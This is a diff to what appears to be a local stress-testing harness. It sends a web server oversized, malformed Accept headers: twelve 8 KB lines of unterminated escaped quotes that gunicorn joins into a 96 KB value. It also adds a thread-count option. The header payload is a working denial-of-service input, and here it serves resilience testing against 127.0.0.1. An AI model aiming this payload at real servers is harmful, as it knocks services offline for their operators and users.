@@ -141,13 +141,15 @@ def attack_threads(
 
         return 16, heavy
     if attack == "accept":
-        line = '"' + '\\"' * 4000  # 8,001 bytes: under gunicorn's limit on one line
+        # One quote, then escaped quotes and no closing quote, over 12 lines of 8 KB (under
+        # gunicorn's limit on one line) that gunicorn joins into one 96 KB value.
+        lines = ['"' + '\\"' * 4000] + ['\\"' * 4000] * 11
 
         def accept(n: int) -> None:
             while time.monotonic() < until:
                 with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
                     head = f"GET {PAGE} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
-                    head += "".join(f"Accept: {line}\r\n" for _ in range(12))
+                    head += "".join(f"Accept: {line}\r\n" for line in lines)
                     sock.sendall((head + "Connection: close\r\n\r\n").encode())
                     try:
                         count(sock.recv(64).split(b" ", 2)[1].decode())
@@ -231,6 +233,7 @@ def run(args: argparse.Namespace) -> dict[str, object]:
         until = time.monotonic() + args.seconds
         counts: dict[str, int] = {}
         threads, work = attack_threads(args.attack, port, until, counts)
+        threads = args.threads or threads
         good: dict[str, list[float]] = {"health": [], "page": [], "lookup": []}
         failed: dict[str, int] = {}
         peak = list(start_memory)
@@ -294,6 +297,7 @@ def main() -> None:
     parser.add_argument("--seconds", type=float, default=30, help="at most 60")
     parser.add_argument("--settle", type=float, default=15, help="before the attack")
     parser.add_argument("--after", type=float, default=0, help="memory read again after")
+    parser.add_argument("--threads", type=int, default=0, help="instead of the attack's own")
     args = parser.parse_args()
     args.seconds = min(args.seconds, 60)
     print(json.dumps(run(args)), flush=True)
